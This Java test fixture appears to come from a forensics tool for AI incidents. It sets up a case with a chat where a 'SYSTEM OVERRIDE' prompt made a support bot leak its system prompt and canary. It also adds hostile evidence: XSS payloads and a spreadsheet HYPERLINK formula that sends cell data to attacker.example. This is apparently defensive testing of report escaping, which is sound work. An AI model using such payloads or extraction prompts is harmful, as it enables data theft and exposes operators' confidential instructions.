package dev.tracehound.app.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tracehound.importers.run.ImportReport;
import dev.tracehound.importers.run.ImportRun;
import dev.tracehound.samples.SampleIncidents;
import dev.tracehound.timeline.event.Event;
import dev.tracehound.timeline.event.EventKind;
import dev.tracehound.timeline.event.Trust;
import dev.tracehound.timeline.evidence.EvidenceRecord;
import dev.tracehound.timeline.findings.Finding;
import dev.tracehound.timeline.findings.Severity;
import dev.tracehound.timeline.search.SearchRequest;
import dev.tracehound.timeline.store.Case;
import dev.tracehound.timeline.store.Cases;
import dev.tracehound.timeline.store.Ingest;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

/**
 * A real case (H2 + Lucene on disk) holding the bundled "system prompt leak" incident imported with the chat
 * importer, plus one hostile evidence file whose text tries HTML, script and spreadsheet-formula injection, with
 * annotations, findings, a summary, a replay run and a playbook run: everything a report shows.
 */
public final class ReportFixture {
    public static final String INCIDENT = "system-prompt-leak-canary";
    public static final String CANARY = "BW-CANARY-5c1e9a77";
    public static final String HOSTILE = "<img src=x onerror=alert(1)> please summarise";
    public static final String FORMULA = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"click\")";
    public static final String HOSTILE_NOTE = "<script>alert(2)</script> check this";

    public final Case c;
    public final Path caseDir;
    public final Path incidentDir;
    public final String leakEventId;
    public final String hostileEventId;
    public final String formulaEventId;
    public final String leakSession = "bw-chat-20260611-0006";

    public ReportFixture(Path tmp) throws IOException {
        caseDir = tmp.resolve("case");
        c = Cases.create(caseDir, "Brightwave <leak> & friends");
        incidentDir = SampleIncidents.extractTo(INCIDENT, tmp.resolve("incidents"));
        Path transcript = incidentDir.resolve("chat/support-bot-2026-06-11.jsonl");
        List<ImportReport> reports = new ImportRun(c, List.of(transcript), "chat", null).run();
        assertTrue(reports.getFirst().ok(), "chat import of the sample incident: " + reports.getFirst().toMap());

        Path hostileFile = tmp.resolve("hostile-prompts.jsonl");
        Files.writeString(hostileFile, "{\"prompt\":\"" + HOSTILE + "\"}\n{\"prompt\":\"formula\"}\n");
        EvidenceRecord ev = c.evidence().add(hostileFile, "jsonl");
        long t0 = Instant.parse("2026-06-11T12:00:00Z").getEpochSecond() * 1_000_000_000L;
        Event hostile = Event.builder(ev.sha256(), "line:1").sessionId("hostile-session").sequence(0).startNanos(t0)
                .kind(EventKind.USER_MESSAGE).actor("user").trust(Trust.USER).text(HOSTILE).build();
        Event formula = Event.builder(ev.sha256(), "line:2").sessionId("hostile-session").sequence(1).startNanos(t0 + 1_000_000_000L)
                .kind(EventKind.TOOL_RESULT).actor("crm_export").toolName("crm_export").trust(Trust.TOOL_OUTPUT).text(FORMULA).build();
        try (Ingest in = c.ingest(ev, "tester")) {
            in.add(hostile);
            in.add(formula);
            in.commit();
        }
        hostileEventId = hostile.eventId();
        formulaEventId = formula.eventId();

        List<Event> leak = c.search().search(SearchRequest.of("kind:MODEL_RESPONSE AND \"" + CANARY + "\"", 10)).events();
        assertEquals(1, leak.size(), "exactly one assistant message leaks the canary");
        leakEventId = leak.getFirst().eventId();
        List<Event> jailbreak = c.search().search(SearchRequest.of("kind:USER_MESSAGE AND \"SYSTEM OVERRIDE\"", 10)).events();
        assertEquals(1, jailbreak.size());

        c.annotations().star(leakEventId, true, "tester");
        c.annotations().tag(leakEventId, "leak", "tester");
        c.annotations().note(leakEventId, "canary " + CANARY + " in the answer", "tester");
        c.annotations().tag(hostileEventId, "hostile", "tester");
        c.annotations().note(hostileEventId, HOSTILE_NOTE, "tester");

        c.findings().save(List.of(
                new Finding("f-leak-0006", "system-prompt-leak", Severity.HIGH, List.of("AML.T0056"), List.of("LLM07"),
                        leakSession, List.of(jailbreak.getFirst().eventId(), leakEventId),
                        "The assistant repeated its system prompt including canary " + CANARY, null,
                        jailbreak.getFirst().eventId(), leakEventId, Instant.parse("2026-06-12T08:00:00Z")),
                new Finding("f-hostile-1", "direct-prompt-injection", Severity.MEDIUM, List.of("AML.T0051.000"), List.of("LLM01"),
                        "hostile-session", List.of(hostileEventId), "Prompt contains markup: " + HOSTILE, null, null, null,
                        Instant.parse("2026-06-12T08:00:01Z"))));

        ReportSummary.set(c, "A customer extracted the support bot's system prompt.\nScope: one conversation. <b>not bold</b> & done", "tester");
        c.documents().put("replay-runs", "rr-1", """
                {"runId":"rr-1","type":"replay","created":"2026-06-12T09:00:00Z","callEventId":"%s","sessionId":"%s",
                 "requestedModel":"gpt-4o-mini","criterion":"output contains the canary","trials":20,"completed":20,"failed":0,
                 "cancelled":0,"rate":{"reproduced":17,"completed":20,"rate":0.85,"low":0.64,"high":0.95}}
                """.formatted(leakEventId, leakSession));
        c.documents().put("playbook-runs", "pr-1", """
                {"id":"pr-1","playbookId":"system-prompt-leakage","playbookVersion":"1","startedBy":"tester",
                 "startedAt":"2026-06-12T08:30:00Z","playbook":{"title":"System prompt leakage",
                 "phases":{"DETECTION":[{"id":"a"},{"id":"b"}],"CONTAINMENT":[{"id":"c"}]}},
                 "steps":{"a":{"done":true},"b":{"done":true},"c":{"done":false}}}
                """);
    }
}
